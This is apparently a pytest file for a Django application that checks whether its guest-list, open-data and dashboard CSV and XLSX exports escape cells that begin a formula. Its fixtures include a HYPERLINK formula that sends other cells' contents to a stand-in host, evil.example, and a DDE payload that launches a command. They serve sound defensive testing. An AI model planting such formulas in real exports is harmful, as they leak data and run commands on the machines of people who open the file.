"""Finding 1: every export a spreadsheet may open neutralises text cells that start a formula."""

import csv
import io

import openpyxl
import pytest
from django.contrib import admin
from django.contrib.auth.models import Permission

from ceremonies.models import Guest
from ceremonies.resources import GuestResource
from chancellery import opendata, registry
from chancellery.spreadsheet import escape_cell
from tests.ceremonies.factories import GuestFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2&C2,"open")'
CALC = "+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("cell", "escaped"),
    [
        ("=1+2", "'=1+2"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
    ],
)
def test_a_text_cell_starting_a_formula_gets_a_leading_apostrophe(cell, escaped):
    assert escape_cell(cell) == escaped


@pytest.mark.parametrize("cell", [12, -3, 39.8, "-3", "-3.5", "+32", "Senaat", "", None])
def test_numbers_and_plain_text_are_unchanged(cell):
    assert escape_cell(cell) == cell


def _guest_export(file_format: str):
    guest_admin = admin.site._registry[Guest]
    formats = {fmt().get_extension(): fmt for fmt in guest_admin.get_export_formats()}
    return formats[file_format]().export_data(GuestResource().export())


@pytest.mark.django_db
def test_the_guest_xlsx_export_holds_no_formula():
    GuestFactory(organisation=HYPERLINK)

    book = openpyxl.load_workbook(io.BytesIO(_guest_export("xlsx")))
    header, row = list(book.active.iter_rows(min_row=1, max_row=2))
    cells = {h.value: cell for h, cell in zip(header, row, strict=True)}

    assert cells["organisation"].data_type == "s"
    assert cells["organisation"].value == "'" + HYPERLINK
    # django-import-export renders every value as text: the id is the text it gives unescaped.
    assert cells["id"].value == GuestResource().export().dict[0]["id"]


@pytest.mark.django_db
def test_the_guest_csv_export_escapes_a_formula():
    GuestFactory(organisation=CALC)

    rows = list(csv.DictReader(io.StringIO(_guest_export("csv"))))

    assert rows[0]["organisation"] == "'" + CALC


def test_an_open_data_csv_escapes_a_formula_label():
    section = registry.Section(
        key="x", title="X", template="", figures=(registry.Figure("x.a", CALC, -4, "=unit"),)
    )

    rows = list(csv.reader(io.StringIO(opendata.csv_text(section, year=2016))))

    assert rows[1] == ["x.a", "'" + CALC, "-4", "'=unit", "2016"]


@pytest.mark.django_db
def test_a_dashboard_widget_csv_escapes_a_formula(client, django_user_model, monkeypatch):
    table = registry.Table(columns=("site", "visits"), rows=((HYPERLINK, -5),))
    widget = registry.Widget(key="evil", title="Evil", template="", table=table)
    monkeypatch.setitem(registry.registry._widgets, "evil", lambda year: widget)
    manager = django_user_model.objects.create_user(username="manager", is_staff=True)
    manager.user_permissions.add(Permission.objects.get(codename="view_dashboard"))
    client.force_login(manager)

    response = client.get("/nl/dashboard/widgets/evil.csv?year=2016")

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1] == ["'" + HYPERLINK, "-5"]


@pytest.mark.django_db
def test_an_exported_guest_list_imports_back_without_the_apostrophes(settings):
    from ceremonies.services import guest_list_dataset, guest_list_import

    # The export groups an id's digits (1.702) in Dutch, which the import refuses: a separate bug.
    settings.USE_THOUSAND_SEPARATOR = False

    guest = GuestFactory(organisation=CALC, phone="+32 2 501 0211")
    content = _guest_export("csv").encode()
    Guest.objects.filter(pk=guest.pk).update(organisation="", phone="")

    report = guest_list_import(dataset=guest_list_dataset(content=content, file_format="csv"))

    guest.refresh_from_db()
    assert report.ok
    assert (guest.organisation, guest.phone) == (CALC, "+32 2 501 0211")
